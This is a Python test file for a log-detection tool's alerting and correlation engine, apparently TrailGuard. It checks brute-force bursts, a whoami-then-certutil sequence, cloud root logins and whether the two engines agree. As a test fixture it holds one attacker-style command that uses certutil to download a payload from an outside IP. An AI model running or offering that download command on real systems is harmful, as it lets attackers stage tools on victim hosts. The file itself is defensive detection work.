"""detect() over a small case built from tests/fixtures/detect: what an alert says, the `alerts`
table, correlations (bursts, temporal order, `generate`), and the two engines agreeing.

The case holds (see the fixture files): Sysmon process creations on WS01 (whoami, then certutil)
and WS02 (certutil, then whoami), a Sysmon EventID 3 row with certutil's fields, Security 4688
(certutil on DC01), two bursts of 4625 for admin (4 events, then 3 two hours later) and two for
bob, a Defender 1116, CloudTrail, auditd, syslog and Zeek events.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import duckdb
import pytest

from trailguard.detect.alerts import EventDetails, iter_json, store
from trailguard.detect.rules import load_rules
from trailguard.detect.run import DetectionRun, detect
from trailguard.store.case import Case

CERTUTIL = "5a1b0000-0000-4000-8000-000000000001"
WHOAMI = "5a1b0000-0000-4000-8000-000000000002"
FAILED_LOGON = "5a1b0000-0000-4000-8000-000000000005"
DEFENDER = "5a1b0000-0000-4000-8000-000000000006"
BRUTE_FORCE = "5a1b0000-0000-4000-8000-000000000101"
RECON_THEN_DOWNLOAD = "5a1b0000-0000-4000-8000-000000000102"
ROOT_LOGIN = "5a1b0000-0000-4000-8000-000000000301"


def run_rules(connection: duckdb.DuckDBPyConnection, *paths: Path,
              vectorised: bool = True) -> DetectionRun:
    ruleset = load_rules([(path, "user") for path in paths])
    assert not ruleset.refusals, ruleset.refusals
    run = detect(connection, ruleset, vectorised=vectorised, cache=None)
    assert not run.stats.errors and not run.correlation_errors
    return run


def alert_lines(connection: duckdb.DuckDBPyConnection, run: DetectionRun) -> list[dict[str, Any]]:
    """The alerts as the JSON Lines output writes them."""
    uids = [ref.uid for alert in run.alerts for ref in (alert.event, *alert.members)]
    details = EventDetails.read(connection, uids)
    return list(iter_json(run.alerts, details))


def lines_of(lines: list[dict[str, Any]], rule_id: str) -> list[dict[str, Any]]:
    return [line for line in lines if line["rule"]["id"] == rule_id]


def where(line: dict[str, Any]) -> tuple[str, int]:
    """(evidence file name, record) of an alert's event or correlation member."""
    return Path(line["file"]).name, line["record"]


# --- what a single-event alert says ------------------------------------------------------------


def test_alert_cites_rule_attack_event_and_entities(connection, rules: Path) -> None:
    run = run_rules(connection, rules / "windows" / "proc_creation_certutil_urlcache.yml")
    lines = alert_lines(connection, run)
    first = lines[0]
    assert first["rule"] == {
        "id": CERTUTIL,
        "title": "Certutil Download With Urlcache",
        "level": "high",
        "author": "TrailGuard tests (certutil)",
        "path": str(rules / "windows" / "proc_creation_certutil_urlcache.yml"),
        "source": "user",
    }
    assert first["attack"] == {"techniques": ["T1105"], "tactics": ["command-and-control"]}
    assert first["time"] == "2024-03-01T10:00:30Z"
    event = first["event"]
    assert set(event) == {"source_type", "file", "record", "id"}
    assert event["source_type"] == "windows_json"
    assert where(event) == ("sysmon.ndjson", 2)
    assert connection.execute(
        "SELECT e.record, f.path FROM events e JOIN files f ON f.id = e.file_id WHERE e.uid = ?",
        [event["id"]],
    ).fetchone() == (2, event["file"])
    assert first["entities"] == {
        "actor_user": "CORP\\alice",
        "host": "WS01.corp.example",
        "process_name": "C:\\Windows\\System32\\certutil.exe",
        "process_cmdline": "certutil.exe -urlcache -split -f http://203.0.113.66/a.txt a.exe",
        "process_guid": "{00000000-0001-0000-0000-000000000002}",
        "process_user": "CORP\\alice",
        "parent_name": "C:\\Windows\\System32\\cmd.exe",
        "operation": "1",
    }
    assert "correlation" not in first
    # Sysmon on WS01 and WS02, and Security 4688 on DC01; in time order.
    assert [where(line["event"]) for line in lines] == [
        ("sysmon.ndjson", 2), ("sysmon.ndjson", 4), ("security.ndjson", 1)]


def test_event_id_is_the_events_view_uid(connection, rules: Path) -> None:
    run = run_rules(connection, rules / "windows" / "defender_threat_name.yml")
    (line,) = alert_lines(connection, run)
    row = connection.execute(
        "SELECT source_type, record, log_name FROM events WHERE uid = ?", [line["event"]["id"]]
    ).fetchone()
    assert row == ("windows_json", 1, "Microsoft-Windows-Windows Defender/Operational")
    assert line["rule"]["level"] == "critical"
    assert line["attack"] == {"techniques": [], "tactics": []}


def test_tactics_come_from_techniques_when_tags_name_none(connection, rules: Path) -> None:
    run = run_rules(connection, rules / "windows" / "proc_creation_whoami.yml")
    lines = alert_lines(connection, run)
    assert len(lines) == 2
    assert all(line["attack"] == {"techniques": ["T1033"], "tactics": ["discovery"]}
               for line in lines)


def test_cloud_alert_entities(connection, rules: Path) -> None:
    run = run_rules(connection, rules / "cloud")
    root = lines_of(alert_lines(connection, run), ROOT_LOGIN)
    assert len(root) == 1
    assert root[0]["attack"] == {"techniques": ["T1078.004"], "tactics": ["initial-access"]}
    assert root[0]["event"]["source_type"] == "cloudtrail"
    assert where(root[0]["event"]) == ("trail.ndjson", 1)
    entities = root[0]["entities"]
    assert entities["actor_principal"] == "arn:aws:iam::123456789012:root"
    assert entities["actor_type"] == "Root"
    assert entities["src_ip"] == "203.0.113.5"
    assert entities["cloud_account"] == "123456789012"
    assert entities["cloud_region"] == "us-east-1"
    assert entities["operation"] == "ConsoleLogin"
    assert entities["user_agent"] == "aws-cli/2.15.0"


# --- the alerts table ---------------------------------------------------------------------------


def test_alerts_table_is_replaced_on_each_run(tmp_path: Path, case_dir: Path,
                                              rules: Path) -> None:
    copy = tmp_path / "case"
    shutil.copytree(case_dir, copy)
    with Case.open(copy) as case:
        con = case.connection
        windows = run_rules(con, rules / "windows")
        store(con, windows.alerts)
        first = con.execute("SELECT rule_id, count(*) FROM alerts GROUP BY 1 ORDER BY 1").fetchall()
        assert sum(count for _, count in first) == len(windows.alerts) == 18
        assert CERTUTIL in dict(first)

        cloud = run_rules(con, rules / "cloud")
        store(con, cloud.alerts)
        rows = con.execute(
            "SELECT kind, level, rule_id, rule_title, rule_author, rule_path, rule_source, "
            "techniques, tactics, source_type, members, correlation FROM alerts ORDER BY time"
        ).fetchall()
        assert [row[2] for row in rows] == [ROOT_LOGIN, "5a1b0000-0000-4000-8000-000000000302"]
        assert rows[0] == (
            "rule", "high", ROOT_LOGIN, "AWS Root Console Login", "TrailGuard tests (aws)",
            str(rules / "cloud" / "aws_root_console_login.yml"), "user", ["T1078.004"],
            ["initial-access"], "cloudtrail", [], None,
        )

        store(con, [])
        assert con.execute("SELECT count(*) FROM alerts").fetchone() == (0,)


def test_alerts_table_holds_correlation_members(tmp_path: Path, case_dir: Path,
                                                rules: Path) -> None:
    copy = tmp_path / "case"
    shutil.copytree(case_dir, copy)
    with Case.open(copy) as case:
        con = case.connection
        run = run_rules(con, rules / "windows" / "security_failed_logon.yml",
                        rules / "correlation" / "brute_force.yml")
        store(con, run.alerts)
        rows = con.execute(
            "SELECT kind, uid, members, correlation, time FROM alerts ORDER BY time"
        ).fetchall()
    assert [row[0] for row in rows] == ["correlation", "correlation"]
    assert [len(row[2]) for row in rows] == [4, 3]
    assert all(row[1] == row[2][0] for row in rows)  # the event is the first member
    summary = json.loads(rows[0][3])
    assert summary["type"] == "event_count"
    assert summary["group"] == {"TargetUserName": "admin"}
    assert summary["value"] == 4
    assert str(rows[0][4]) == "2024-03-01 13:00:00"


# --- correlations -------------------------------------------------------------------------------


def test_event_count_gives_one_alert_per_burst(connection, rules: Path) -> None:
    run = run_rules(connection, rules / "windows" / "security_failed_logon.yml",
                    rules / "correlation" / "brute_force.yml")
    lines = alert_lines(connection, run)
    assert [line["rule"]["id"] for line in lines] == [BRUTE_FORCE, BRUTE_FORCE]
    first, second = lines
    assert first["rule"]["author"] == "TrailGuard tests (correlation)"
    assert first["attack"] == {"techniques": ["T1110"], "tactics": ["credential-access"]}
    correlation = first["correlation"]
    assert correlation["type"] == "event_count"
    assert correlation["group"] == {"TargetUserName": "admin"}
    assert correlation["value"] == 4
    assert [where(m) for m in correlation["members"]] == [
        ("security.ndjson", 2), ("security.ndjson", 3), ("security.ndjson", 5),
        ("security.ndjson", 7)]
    assert [m["time"] for m in correlation["members"]] == [
        "2024-03-01T13:00:00Z", "2024-03-01T13:00:10Z", "2024-03-01T13:00:20Z",
        "2024-03-01T13:00:30Z"]
    assert all(m["source_type"] == "windows_json" for m in correlation["members"])
    assert first["event"] == {k: v for k, v in correlation["members"][0].items() if k != "time"}
    assert first["time"] == "2024-03-01T13:00:00Z"
    assert first["entities"] == {"actor_user": "admin", "src_ip": "198.51.100.23",
                                 "host": "DC01.corp.example", "operation": "4625"}
    assert second["correlation"]["value"] == 3
    assert [where(m) for m in second["correlation"]["members"]] == [
        ("security.ndjson", 9), ("security.ndjson", 10), ("security.ndjson", 11)]
    assert second["time"] == "2024-03-01T15:00:00Z"


def test_temporal_ordered_needs_the_listed_order(connection, rules: Path) -> None:
    run = run_rules(connection, rules / "windows" / "proc_creation_whoami.yml",
                    rules / "windows" / "proc_creation_certutil_urlcache.yml",
                    rules / "correlation" / "recon_then_download.yml")
    lines = alert_lines(connection, run)
    # WS01 ran whoami, then certutil; WS02 the other way round, which is no sequence.
    assert [line["rule"]["id"] for line in lines] == [RECON_THEN_DOWNLOAD]
    correlation = lines[0]["correlation"]
    assert correlation["type"] == "temporal_ordered"
    assert correlation["group"] == {"Computer": "WS01.corp.example"}
    assert [where(m) for m in correlation["members"]] == [("sysmon.ndjson", 1),
                                                          ("sysmon.ndjson", 2)]
    # A correlation's entities merge its members' (one value stays a value, several a list).
    assert lines[0]["entities"]["host"] == "WS01.corp.example"
    assert lines[0]["entities"]["process_name"] == ["C:\\Windows\\System32\\whoami.exe",
                                                    "C:\\Windows\\System32\\certutil.exe"]


def test_generate_false_base_rules_only_feed_the_correlation(connection, rules: Path) -> None:
    run = run_rules(connection, rules / "windows", rules / "correlation")
    fired = {alert.rule.id for alert in run.alerts}
    assert {BRUTE_FORCE, RECON_THEN_DOWNLOAD, DEFENDER} <= fired
    assert not fired & {FAILED_LOGON, WHOAMI, CERTUTIL}
    # They still ran: their matches are counted, and the correlations were built from them.
    assert run.matches == 18


def test_generate_true_base_rules_alert_too(connection, rules: Path, tmp_path: Path) -> None:
    text = (rules / "correlation" / "brute_force.yml").read_text(encoding="utf-8")
    loud = tmp_path / "brute_force_generate.yml"
    loud.write_text(text.replace("    timespan: 5m\n", "    timespan: 5m\n    generate: true\n"),
                    encoding="utf-8")
    run = run_rules(connection, rules / "windows" / "security_failed_logon.yml", loud)
    kinds = sorted((alert.rule.id, alert.kind) for alert in run.alerts)
    assert kinds == [(FAILED_LOGON, "rule")] * 9 + [(BRUTE_FORCE, "correlation")] * 2


# --- engines ------------------------------------------------------------------------------------


@pytest.mark.parametrize("folders", [("windows", "linux", "cloud", "zeek"),
                                     ("windows", "correlation")])
def test_vectorised_and_sql_engines_give_identical_alerts(connection, rules: Path,
                                                          folders: tuple[str, ...]) -> None:
    paths = [rules / folder for folder in folders]
    vector = alert_lines(connection, run_rules(connection, *paths, vectorised=True))
    sql = alert_lines(connection, run_rules(connection, *paths, vectorised=False))
    assert len(vector) > 5
    assert sorted(map(json.dumps, vector)) == sorted(map(json.dumps, sql))


@pytest.mark.parametrize("vectorised", [True, False])
def test_groups_on_threads_give_the_same_alerts_in_the_same_order(
        connection, rules: Path, monkeypatch: pytest.MonkeyPatch, vectorised: bool) -> None:
    from trailguard.detect import engine

    paths = [rules / folder for folder in ("windows", "linux", "cloud", "zeek", "correlation")]
    monkeypatch.setattr(engine, "GROUP_THREADS", 1)
    alone = alert_lines(connection, run_rules(connection, *paths, vectorised=vectorised))
    monkeypatch.setattr(engine, "GROUP_THREADS", 4)
    threaded = run_rules(connection, *paths, vectorised=vectorised)
    assert threaded.stats.groups > 4
    assert alert_lines(connection, threaded) == alone


def test_a_run_stopped_midway_stops_its_threads(connection, rules: Path) -> None:
    import threading

    from trailguard.detect.engine import run_rules as run_groups
    from trailguard.detect.plan import CaseTables, plan_rules

    ruleset = load_rules([(rules / folder, "user") for folder in ("windows", "linux", "cloud")])
    compiled = plan_rules(ruleset, None).compiled
    before = threading.active_count()
    matches = run_groups(connection, compiled, CaseTables.read(connection))
    next(matches)
    matches.close()  # the caller stops reading: the pool is shut down, its cursors interrupted
    assert threading.active_count() == before
    assert connection.execute("SELECT 1").fetchall() == [(1,)]


def test_the_batches_of_a_parallel_scan_are_joined_before_rules_run() -> None:
    import pyarrow as pa

    from trailguard.detect.engine import _gathered

    def batch(rows: int) -> pa.RecordBatch:
        return pa.record_batch({"_uid": pa.array([f"u{i}" for i in range(rows)], pa.string())})

    sizes = [b.num_rows for b in _gathered(iter([batch(3), batch(3), batch(0), batch(4)]), 6)]
    assert sizes == [6, 4]
    assert [b.num_rows for b in _gathered(iter([batch(0)]), 6)] == [0]
    assert list(_gathered(iter([]), 6)) == []
